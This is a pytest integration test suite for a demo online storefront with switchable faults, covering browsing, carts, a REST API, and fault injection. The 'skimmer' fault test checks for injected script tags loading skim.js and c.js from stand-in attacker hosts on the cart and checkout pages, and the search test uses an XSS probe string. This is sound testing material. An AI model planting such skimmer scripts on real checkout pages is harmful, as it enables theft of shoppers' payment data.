"""Integration tests of the bundled demo storefront, over real sockets."""

from __future__ import annotations

import asyncio
import json
import os
import re
import signal
import sys
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from agent.demo import catalog, storefront
from agent.demo.storefront import (
    FAULTS,
    SLOW_DELAY_S,
    DemoStore,
    UnknownFaultError,
    run_demo_store,
    start_store,
    validate_faults,
)

REPO_ROOT = Path(__file__).resolve().parents[2]
CATEGORY_SIZES = {"tops": 12, "bottoms": 10, "gear": 8}
SEARCH_PATH = (
    "/rest/V1/search?searchCriteria[requestName]=quick_search_container"
    "&searchCriteria[filterGroups][0][filters][0][field]=search_term"
    "&searchCriteria[filterGroups][0][filters][0][value]={term}"
)


@pytest.fixture
async def store() -> AsyncIterator[DemoStore]:
    s = await start_store()
    try:
        yield s
    finally:
        await s.close()


@pytest.fixture
async def client(store: DemoStore) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(base_url=store.url, timeout=5.0) as c:
        yield c


# --- helpers ----------------------------------------------------------------------------------


def cards(page: str) -> list[str]:
    return re.findall(r'<li class="product-card" data-sku="([^"]+)"', page)


def json_ld(page: str) -> list[Any]:
    blocks = re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.S)
    return [json.loads(b) for b in blocks]


def main_content(page: str) -> str:
    match = re.search(r'<main id="maincontent"[^>]*>(.*?)</main>', page, re.S)
    assert match is not None
    return match.group(1)


def form_key(page: str) -> str:
    match = re.search(r'name="form_key" value="([^"]+)"', page)
    assert match is not None
    return match.group(1)


async def add_to_cart(client: httpx.AsyncClient, url_key: str = "aurora-running-tee") -> None:
    page = (await client.get(f"/product/{url_key}")).text
    sku = re.search(r'<span class="sku">([^<]+)</span>', page)
    assert sku is not None
    resp = await client.post("/cart/add",
                             data={"form_key": form_key(page), "sku": sku.group(1), "qty": "1"})
    assert resp.status_code == 302
    assert resp.headers["location"] == "/cart"


async def new_guest_cart(client: httpx.AsyncClient) -> str:
    resp = await client.post("/rest/V1/guest-carts")
    assert resp.status_code == 200
    cart_id = resp.json()
    assert isinstance(cart_id, str)
    return cart_id


async def set_faults(client: httpx.AsyncClient, *names: str) -> httpx.Response:
    return await client.post("/_demo/faults", json={"faults": list(names)})


# --- healthy store ----------------------------------------------------------------------------


def test_catalog_shape() -> None:
    assert len(catalog.PRODUCTS) == 30
    assert {c.slug: len(catalog.products_in(c.slug)) for c in catalog.CATEGORIES} == CATEGORY_SIZES
    assert len({p.sku for p in catalog.PRODUCTS}) == 30
    assert len({p.url_key for p in catalog.PRODUCTS}) == 30
    test_product = catalog.product_by_sku(catalog.TEST_SKU)
    assert test_product is not None and test_product.category == "gear"


async def test_home_page(store: DemoStore, client: httpx.AsyncClient) -> None:
    assert re.fullmatch(r"http://127\.0\.0\.1:\d+", store.url)
    assert store.url.endswith(f":{store.port}")
    resp = await client.get("/")
    assert resp.status_code == 200
    assert resp.headers["content-type"].startswith("text/html")
    page = resp.text
    assert "<title>" in page and "Demo Outfitters" in page
    assert '<link rel="stylesheet" href="/static/styles.css">' in page
    assert '<script src="/static/app.js"></script>' in page
    assert 'action="/search"' in page and 'name="q"' in page
    for slug in CATEGORY_SIZES:
        assert f'href="/category/{slug}"' in page
    assert len(cards(main_content(page))) == 6
    assert resp.cookies.get("demo_session")
    again = await client.get("/")
    assert "set-cookie" not in again.headers   # the session is kept


@pytest.mark.parametrize(("slug", "count"), sorted(CATEGORY_SIZES.items()))
async def test_category_listing(client: httpx.AsyncClient, slug: str, count: int) -> None:
    resp = await client.get(f"/category/{slug}")
    assert resp.status_code == 200
    assert len(cards(resp.text)) == count
    assert f'<p class="toolbar-amount">{count} items</p>' in resp.text
    (item_list,) = json_ld(resp.text)
    assert item_list["@type"] == "ItemList"
    assert len(item_list["itemListElement"]) == count
    first = item_list["itemListElement"][0]
    assert first["@type"] == "ListItem" and first["item"]["@type"] == "Product"
    assert first["item"]["url"].startswith("http://127.0.0.1:")
    assert float(first["item"]["offers"]["price"]) > 0


async def test_product_page_and_404s(client: httpx.AsyncClient) -> None:
    resp = await client.get("/product/demo-test-product")
    assert resp.status_code == 200
    page = resp.text
    assert '<span class="sku">DS-TEST-SKU</span>' in page
    assert '<form id="product_addtocart_form" method="post" action="/cart/add">' in page
    assert 'name="sku" value="DS-TEST-SKU"' in page and 'name="qty" value="1"' in page
    assert 'href="/review/product/DS-TEST-SKU"' in page
    (product,) = json_ld(page)
    assert product["@type"] == "Product" and product["sku"] == "DS-TEST-SKU"
    for path in ("/product/nope", "/category/nope", "/no/such/page"):
        missing = await client.get(path)
        assert missing.status_code == 404
        assert "<main id=\"maincontent\"" in missing.text


async def test_static_assets(client: httpx.AsyncClient) -> None:
    css = await client.get("/static/styles.css")
    assert css.status_code == 200 and css.headers["content-type"].startswith("text/css")
    assert ".product-card" in css.text
    js = await client.get("/static/app.js")
    assert js.status_code == 200 and "javascript" in js.headers["content-type"]
    assert (await client.get("/static/styles-v2.css")).status_code == 404


async def test_guest_shopper_flow(client: httpx.AsyncClient) -> None:
    home = (await client.get("/")).text
    link = re.search(r'<a class="product-link" href="(/product/[^"]+)"', home)
    assert link is not None
    product = (await client.get(link.group(1))).text
    sku = re.search(r'<span class="sku">([^<]+)</span>', product)
    assert sku is not None
    added = await client.post(
        "/cart/add", data={"form_key": form_key(product), "sku": sku.group(1), "qty": "1"})
    assert added.status_code == 302 and added.headers["location"] == "/cart"
    cart = (await client.get("/cart")).text
    assert f'<tr class="cart-item" data-sku="{sku.group(1)}">' in cart
    assert '<a class="action checkout" href="/checkout">Proceed to Checkout</a>' in cart
    checkout = await client.get("/checkout")
    assert checkout.status_code == 200
    codes = re.findall(r'<div class="payment-method" data-code="([^"]+)"', checkout.text)
    assert codes == ["checkmo", "banktransfer", "cashondelivery"]
    assert 'name="shipping_method" value="flatrate_flatrate"' in checkout.text
    assert 'value="tablerate_bestway"' in checkout.text
    assert "orders are not accepted" in checkout.text
    rates = await client.post("/checkout/estimate-shipping",
                              json={"country_id": "US", "postcode": "90001"})
    assert rates.status_code == 200
    assert [(r["carrier_code"], r["method_code"]) for r in rates.json()] == [
        ("flatrate", "flatrate"), ("tablerate", "bestway")]


async def test_empty_cart_and_checkout_redirect(client: httpx.AsyncClient) -> None:
    cart = await client.get("/cart")
    assert "You have no items in your shopping cart." in cart.text
    checkout = await client.get("/checkout")
    assert checkout.status_code == 302 and checkout.headers["location"] == "/cart"


async def test_add_to_cart_rejects_bad_form_key(store: DemoStore,
                                                client: httpx.AsyncClient) -> None:
    page = (await client.get("/product/aurora-running-tee")).text
    wrong = await client.post("/cart/add",
                              data={"form_key": "x" * 16, "sku": "DS-TOP-01", "qty": "1"})
    assert wrong.status_code == 403 and "Invalid Form Key" in wrong.text
    # A valid key from another shopper's session is rejected too.
    async with httpx.AsyncClient(base_url=store.url) as other:
        stolen = await other.post("/cart/add",
                                  data={"form_key": form_key(page), "sku": "DS-TOP-01"})
    assert stolen.status_code == 403
    unknown = await client.post("/cart/add",
                                data={"form_key": form_key(page), "sku": "NOPE", "qty": "1"})
    assert unknown.status_code == 404
    assert "You have no items" in (await client.get("/cart")).text


async def test_search(client: httpx.AsyncClient) -> None:
    tee = (await client.get("/search", params={"q": "TEE"})).text
    assert len(cards(main_content(tee))) == 4
    assert "4 results for 'TEE'" in tee
    (item_list,) = json_ld(tee)
    assert len(item_list["itemListElement"]) == 4
    by_sku = (await client.get("/search", params={"q": "ds-gear"})).text
    assert len(cards(main_content(by_sku))) == 7
    none = (await client.get("/search", params={"q": "<script>alert(1)</script>"})).text
    assert "<script>alert(1)</script>" not in none
    assert "0 results for '&lt;script&gt;" in none
    assert "Your search returned no results." in none
    rest = (await client.get(SEARCH_PATH.format(term="yoga"))).json()
    assert rest["total_count"] == 3 and len(rest["items"]) == 3
    assert {"id", "score"} <= set(rest["items"][0])
    assert rest["search_criteria"]["request_name"] == "quick_search_container"


async def test_rest_guest_cart_flow(client: httpx.AsyncClient) -> None:
    currency = (await client.get("/rest/V1/directory/currency")).json()
    assert currency["base_currency_code"] == "USD"
    assert currency["available_currency_codes"] == ["USD"]
    cart_id = await new_guest_cart(client)
    assert re.fullmatch(r"[A-Za-z0-9]{32}", cart_id)
    base = f"/rest/V1/guest-carts/{cart_id}"
    body = {"cartItem": {"sku": "DS-TEST-SKU", "qty": 1, "quote_id": cart_id}}
    item = (await client.post(f"{base}/items", json=body)).json()
    assert item == {"item_id": item["item_id"], "sku": "DS-TEST-SKU", "qty": 1,
                    "name": "Demo Test Product", "price": 1.0, "product_type": "simple",
                    "quote_id": cart_id}
    merged = (await client.post(f"{base}/items", json=body)).json()
    assert merged["item_id"] == item["item_id"] and merged["qty"] == 2
    items = (await client.get(f"{base}/items")).json()
    assert [i["sku"] for i in items] == ["DS-TEST-SKU"]
    rates = await client.post(f"{base}/estimate-shipping-methods",
                              json={"address": {"country_id": "US", "postcode": "90001"}})
    assert rates.status_code == 200
    assert {"carrier_code", "method_code", "carrier_title", "method_title", "amount",
            "available"} <= set(rates.json()[0])
    methods = (await client.get(f"{base}/payment-methods")).json()
    assert {"code": "checkmo", "title": "Check / Money order"} in methods
    totals = (await client.get(f"{base}/totals")).json()
    assert totals["items_qty"] == 2 and totals["grand_total"] == 2.0
    assert totals["quote_currency_code"] == "USD"
    assert totals["total_segments"] and totals["items"]
    deleted = await client.delete(f"{base}/items/{item['item_id']}")
    assert deleted.status_code == 200 and deleted.json() is True
    assert (await client.get(f"{base}/items")).json() == []


async def test_rest_errors(client: httpx.AsyncClient) -> None:
    cart_id = await new_guest_cart(client)
    unknown = await client.post(f"/rest/V1/guest-carts/{cart_id}/items",
                                json={"cartItem": {"sku": "NOPE", "qty": 1, "quote_id": cart_id}})
    assert unknown.status_code == 404
    assert unknown.json() == {"message": "The product that was requested doesn't exist. "
                                         "Verify the product and try again.", "parameters": {}}
    bad_cart = await client.get("/rest/V1/guest-carts/nosuchcart/totals")
    assert bad_cart.status_code == 404
    assert bad_cart.json() == {"message": "No such entity with %fieldName = %fieldValue",
                               "parameters": {"fieldName": "cartId", "fieldValue": "nosuchcart"}}
    no_route = await client.get("/rest/V1/products/DS-TOP-01")
    assert no_route.status_code == 404 and "message" in no_route.json()


async def test_reviews_wishlist_sitemap_robots(store: DemoStore,
                                               client: httpx.AsyncClient) -> None:
    reviews = (await client.get("/review/product/DS-TOP-01")).json()
    assert reviews["sku"] == "DS-TOP-01" and isinstance(reviews["reviews"], list)
    posted = await client.post("/review/product/DS-TOP-01",
                               json={"title": "Nice", "detail": "Fits well", "rating": 5})
    assert posted.status_code == 201 and posted.json()["accepted"] is True
    assert (await client.post("/wishlist/add", json={"sku": "DS-BOT-01"})).status_code == 200
    assert (await client.post("/wishlist/add", data={"sku": "DS-GEAR-01"})).status_code == 200
    wishlist = (await client.get("/wishlist")).json()
    assert [i["sku"] for i in wishlist["items"]] == ["DS-BOT-01", "DS-GEAR-01"]
    sitemap = (await client.get("/sitemap.xml")).text
    assert sitemap.count("<loc>") == 1 + 3 + 30
    assert f"<loc>{store.url}/product/demo-test-product</loc>" in sitemap
    robots = (await client.get("/robots.txt")).text
    assert "Sitemap:" in robots


async def test_stores_are_independent(client: httpx.AsyncClient) -> None:
    async with await start_store(faults=["server_error"]) as other:
        async with httpx.AsyncClient(base_url=other.url) as other_client:
            assert (await other_client.get("/")).status_code == 503
        assert (await client.get("/")).status_code == 200


# --- faults -------------------------------------------------------------------------------


async def test_fault_down_hangs_and_close_is_prompt(store: DemoStore,
                                                    client: httpx.AsyncClient) -> None:
    store.set_faults(["down"])
    with pytest.raises(httpx.TimeoutException):
        await client.get("/", timeout=0.5)
    assert (await client.get("/_demo/faults")).json()["faults"] == ["down"]
    # A request still held when the fault clears dies with the connection, unanswered;
    # new requests are answered normally.
    pending = asyncio.create_task(client.get("/category/gear"))
    await asyncio.sleep(0.2)
    assert not pending.done()
    await set_faults(client)
    with pytest.raises(httpx.TransportError):
        await pending
    assert (await client.get("/category/gear")).status_code == 200
    # close() does not wait for hung requests.
    store.set_faults(["down"])
    hung = asyncio.create_task(client.get("/"))
    await asyncio.sleep(0.2)
    started = time.monotonic()
    await store.close()
    assert time.monotonic() - started < 1.0
    with pytest.raises(httpx.TransportError):
        await hung


async def test_fault_slow(store: DemoStore, client: httpx.AsyncClient,
                          monkeypatch: pytest.MonkeyPatch) -> None:
    assert SLOW_DELAY_S == 2.5
    monkeypatch.setattr(storefront, "SLOW_DELAY_S", 0.4)   # keep the suite fast
    store.set_faults(["slow"])
    started = time.monotonic()
    assert (await client.get("/")).status_code == 200
    assert time.monotonic() - started >= 0.4
    started = time.monotonic()
    await client.get("/_demo/faults")
    assert time.monotonic() - started < 0.3


async def test_fault_server_error(store: DemoStore, client: httpx.AsyncClient) -> None:
    store.set_faults(["server_error"])
    for path in ("/", "/category/tops", "/rest/V1/directory/currency", "/static/styles.css"):
        resp = await client.get(path)
        assert resp.status_code == 503, path
        assert "Service Unavailable" in resp.text
    assert (await client.post("/rest/V1/guest-carts")).status_code == 503
    assert (await client.get("/_demo/faults")).status_code == 200


async def test_fault_checkout(store: DemoStore, client: httpx.AsyncClient) -> None:
    page = (await client.get("/product/aurora-running-tee")).text
    cart_id = await new_guest_cart(client)
    store.set_faults(["checkout"])
    resp = await client.post("/cart/add",
                             data={"form_key": form_key(page), "sku": "DS-TOP-01", "qty": "1"})
    assert resp.status_code == 500
    rest = await client.post(f"/rest/V1/guest-carts/{cart_id}/items",
                             json={"cartItem": {"sku": "DS-TEST-SKU", "qty": 1,
                                                "quote_id": cart_id}})
    assert rest.status_code == 500
    assert rest.json()["message"].startswith("Internal Error. Details are available in Magento")
    assert (await client.get("/")).status_code == 200


async def test_fault_payment(store: DemoStore, client: httpx.AsyncClient) -> None:
    await add_to_cart(client)
    cart_id = await new_guest_cart(client)
    store.set_faults(["payment"])
    checkout = (await client.get("/checkout")).text
    assert "No Payment method available." in checkout
    assert 'class="payment-method"' not in checkout
    methods = await client.get(f"/rest/V1/guest-carts/{cart_id}/payment-methods")
    assert methods.status_code == 200 and methods.json() == []


async def test_fault_catalog(store: DemoStore, client: httpx.AsyncClient) -> None:
    store.set_faults(["catalog"])
    remaining = {}
    for slug, full in CATEGORY_SIZES.items():
        page = (await client.get(f"/category/{slug}")).text
        remaining[slug] = len(cards(page))
        assert remaining[slug] < full
        assert f"{remaining[slug]} items" in page
        assert len(json_ld(page)[0]["itemListElement"]) == remaining[slug]
    assert sum(remaining.values()) == 18   # 40 % of 30 gone
    assert (await client.get("/product/breeze-tank-top")).status_code == 404   # DS-TOP-02
    assert (await client.get("/product/demo-test-product")).status_code == 200
    assert "DS-TEST-SKU" in (await client.get("/category/gear")).text
    tee = (await client.get("/search", params={"q": "tee"})).text
    assert len(cards(main_content(tee))) == 1
    assert (await client.get(SEARCH_PATH.format(term="tee"))).json()["total_count"] == 1
    assert (await client.get("/sitemap.xml")).text.count("<loc>") == 1 + 3 + 18


async def test_fault_search(store: DemoStore, client: httpx.AsyncClient) -> None:
    store.set_faults(["search"])
    page = (await client.get("/search", params={"q": "tee"})).text
    assert cards(main_content(page)) == []
    assert "0 results for 'tee'" in page and "Your search returned no results." in page
    rest = (await client.get(SEARCH_PATH.format(term="tee"))).json()
    assert rest["total_count"] == 0 and rest["items"] == []
    assert len(cards((await client.get("/category/tops")).text)) == 12


async def test_fault_corrupt(store: DemoStore, client: httpx.AsyncClient) -> None:
    store.set_faults(["corrupt"])
    for path in ("/", "/category/tops", "/product/aurora-running-tee"):
        resp = await client.get(path)
        assert resp.status_code == 200
        assert "There has been an error processing your request" in resp.text
        assert "Exception printing is disabled by default for security reasons." in resp.text
        assert '<link rel="stylesheet" href="/static/styles-v2.css">' in resp.text
        assert main_content(resp.text).strip() == ""
    assert (await client.get("/static/styles-v2.css")).status_code == 404


async def test_fault_skimmer(store: DemoStore, client: httpx.AsyncClient) -> None:
    await add_to_cart(client)
    store.set_faults(["skimmer"])
    for path in ("/cart", "/checkout"):
        page = (await client.get(path)).text
        assert '<script src="https://cdn.jsdelivr-analytics.example/skim.js"></script>' in page
        assert "s.src='https://pay-verify.example/c.js'" in page
    assert "skim.js" not in (await client.get("/")).text


async def test_fault_reviews(store: DemoStore, client: httpx.AsyncClient) -> None:
    store.set_faults(["reviews"])
    assert (await client.get("/review/product/DS-TOP-01")).status_code == 500
    posted = await client.post("/review/product/DS-TOP-01",
                               json={"title": "t", "detail": "d", "rating": 4})
    assert posted.status_code == 500
    assert (await client.get("/product/aurora-running-tee")).status_code == 200
    assert (await client.get("/wishlist")).status_code == 200


async def test_faults_combine(store: DemoStore, client: httpx.AsyncClient) -> None:
    await add_to_cart(client)
    store.set_faults(["corrupt", "skimmer", "payment"])
    page = (await client.get("/checkout")).text
    assert "There has been an error processing your request" in page
    assert "skim.js" in page
    assert main_content(page).strip() == ""


async def test_switch_faults_at_runtime(store: DemoStore, client: httpx.AsyncClient) -> None:
    state = (await client.get("/_demo/faults")).json()
    assert state == {"faults": [], "agents": {}, "available": sorted(FAULTS),
                     "slow_delay_s": SLOW_DELAY_S, "fragile_rejections": 0,
                     "usage": storefront.FAULTS_USAGE}
    resp = await set_faults(client, "server_error", "search")
    assert resp.status_code == 200 and resp.json()["faults"] == ["search", "server_error"]
    assert store.faults == {"server_error", "search"}
    assert (await client.get("/")).status_code == 503
    assert (await set_faults(client)).json()["faults"] == []
    assert (await client.get("/")).status_code == 200


async def test_unknown_fault(store: DemoStore, client: httpx.AsyncClient) -> None:
    store.set_faults(["search"])
    resp = await set_faults(client, "search", "meteor")
    assert resp.status_code == 400
    assert "meteor" in resp.json()["error"] and "skimmer" in resp.json()["error"]
    assert (await client.post("/_demo/faults", json={"faults": "down"})).status_code == 400
    assert (await client.post("/_demo/faults", content=b"not json")).status_code == 400
    assert store.faults == {"search"}   # unchanged
    with pytest.raises(UnknownFaultError, match="meteor") as excinfo:
        store.set_faults(["meteor"])
    assert "server_error" in str(excinfo.value)
    assert isinstance(excinfo.value, ValueError)
    assert store.faults == {"search"}
    assert validate_faults(["down", "slow"]) == frozenset({"down", "slow"})
    assert validate_faults("down") == frozenset({"down"})
    with pytest.raises(UnknownFaultError):
        await start_store(faults=["meteor"])


# --- the CLI entry point ----------------------------------------------------------------------


def test_run_demo_store_rejects_unknown_fault(capsys: pytest.CaptureFixture[str]) -> None:
    assert run_demo_store("127.0.0.1", 0, ["meteor"]) == 2
    assert "meteor" in capsys.readouterr().err


async def test_run_demo_store_subprocess() -> None:
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT)}
    code = ("import sys; from agent.demo.storefront import run_demo_store; "
            "sys.exit(run_demo_store('127.0.0.1', 0, ['search', 'payment']))")
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-c", code, cwd=REPO_ROOT, env=env,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
    try:
        assert proc.stdout is not None
        line = (await asyncio.wait_for(proc.stdout.readline(), 10)).decode()
        match = re.fullmatch(
            r"demo store listening on (http://127\.0\.0\.1:\d+) \(faults: payment,search\)\n",
            line)
        assert match, line
        async with httpx.AsyncClient(base_url=match.group(1)) as c:
            assert (await c.get("/")).status_code == 200
        proc.send_signal(signal.SIGTERM)
        stdout, stderr = await asyncio.wait_for(proc.communicate(), 10)
        assert proc.returncode == 0, stderr.decode()
        assert stdout == b""
    finally:
        if proc.returncode is None:
            proc.kill()
            await proc.wait()
